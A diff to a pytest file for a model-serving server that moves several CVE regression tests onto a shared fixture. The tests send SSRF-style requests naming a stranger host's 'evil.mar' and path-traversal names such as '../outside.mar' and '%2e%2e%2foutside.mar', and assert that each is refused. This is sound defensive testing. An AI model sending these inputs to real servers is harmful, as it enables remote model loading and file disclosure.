@@ -65,22 +65,31 @@ def ask_verbs(server: Server, name: str) -> set[int]:
     return {ask_raw(server.addresses["management"], f"POST /fleet/{verb}/{name} HTTP/1.1") for verb in verbs}
 
 
-def test_no_request_makes_the_server_call_another_host(s3: S3Server, tmp_path: Path) -> None:
+@pytest.fixture(scope="module")
+def house(s3: S3Server, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    """Two fronts and two workers with a store that holds nothing; a sound archive lies beside its folder."""
+    folder = tmp_path_factory.mktemp("house")
+    (folder / "models" / "au").mkdir(parents=True)
+    (folder / "outside.mar").write_bytes(SOUND.data)
+    with run_server(s3, folder, str(folder / "models"), workers=2, fronts=2) as server:
+        yield server
+
+
+def test_no_request_makes_the_server_call_another_host(house: Server) -> None:
     """CVE-2023-43654: TorchServe fetched models and workflows from any URL that a request named.
 
     A model is registered from the one store alone, and a name that looks like a URL is a key of it.
     """
-    (tmp_path / "models").mkdir()
-    with listen_as_stranger() as (host, called), run_server(s3, tmp_path, str(tmp_path / "models")) as server:
+    with listen_as_stranger() as (host, called):
         for path in ("models", "workflows"):
-            for address in (server.addresses["management"], server.url):
+            for address in (house.addresses["management"], house.url):
                 url = f"{path}?url=http://{host}/evil.mar&initial_workers=1"
                 assert ask_raw(address, f"POST /{url} HTTP/1.1") in (400, 404, 405)
         for scheme in ("http", "https", "s3", "file", "ftp"):
-            assert ask_verbs(server, f"{scheme}://{host}/evil.mar") == {400}
-            assert ask_verbs(server, f"{scheme}:{host}/evil.mar") == {404}
+            assert ask_verbs(house, f"{scheme}://{host}/evil.mar") == {400}
+            assert ask_verbs(house, f"{scheme}:{host}/evil.mar") == {404}
         assert called == []
-        assert server.resident() == set()
+        assert house.resident() == set()
 
 
 def test_no_archive_runs_code_when_it_is_read(s3: S3Server, tmp_path: Path) -> None:
@@ -137,38 +146,32 @@ def read_member(archive: bytes, name: str) -> bytes:
         return opened.read(name)
 
 
-def test_dots_lead_to_no_other_archive_at_the_first_request_nor_the_second(s3: S3Server, tmp_path: Path) -> None:
+def test_dots_lead_to_no_other_archive_at_the_first_request_nor_the_second(house: Server) -> None:
     """CVE-2024-35198: a URL with `..` was refused by TorchServe's allow-list and yet downloaded, so that its file name
     was served when it was asked again.
 
     A sound archive lies beside the store's folder. No spelling of the way there is served, at the first request nor at
     the second, and its plain name is not known afterwards.
     """
-    models = tmp_path / "models"
-    (models / "au").mkdir(parents=True)
-    (tmp_path / "outside.mar").write_bytes(SOUND.data)
     plain = ("../outside.mar", "au/../../outside.mar", "./../outside.mar", "au/../outside.mar", "..\\outside.mar")
-    with run_server(s3, tmp_path, str(models)) as server:
-        for _ in range(2):
-            for name in plain:
-                assert ask_verbs(server, name) == {400}, name
-            for name in ("%2e%2e/outside.mar", "%2e%2e%2foutside.mar", "au/%2E%2E/%2e./outside.mar"):
-                assert ask_verbs(server, name) == {400}, name
-            assert ask_verbs(server, "outside.mar") == {404}
-        assert server.resident() == set()
-        assert not any(row["pinned"] for row in server.models().values())
+    for _ in range(2):
+        for name in plain:
+            assert ask_verbs(house, name) == {400}, name
+        for name in ("%2e%2e/outside.mar", "%2e%2e%2foutside.mar", "au/%2E%2E/%2e./outside.mar"):
+            assert ask_verbs(house, name) == {400}, name
+        assert ask_verbs(house, "outside.mar") == {404}
+    assert house.resident() == set()
+    assert not any(row["pinned"] for row in house.models().values())
 
 
-def test_by_default_nothing_listens_beyond_loopback(s3: S3Server, tmp_path: Path) -> None:
+def test_by_default_nothing_listens_beyond_loopback(house: Server) -> None:
     """CVE-2024-35199: TorchServe's gRPC ports were bound to all interfaces whatever the HTTP addresses were.
 
     The kernel's tables say that the server's processes listen at loopback alone, and only where it is announced.
     """
-    (tmp_path / "models").mkdir()
-    with run_server(s3, tmp_path, str(tmp_path / "models"), workers=2, fronts=2) as server:
-        found = {place for pid in server.survivors() for place in list_listeners(pid)}
-        assert found == {tuple(url.removeprefix("http://").rsplit(":", 1)) for url in server.addresses.values()}
-        assert {host for host, _ in found} == {"127.0.0.1"}
+    found = {place for pid in house.survivors() for place in list_listeners(pid)}
+    assert found == {tuple(url.removeprefix("http://").rsplit(":", 1)) for url in house.addresses.values()}
+    assert {host for host, _ in found} == {"127.0.0.1"}
 
 
 def list_listeners(pid: int) -> Iterator[tuple[str, str]]:
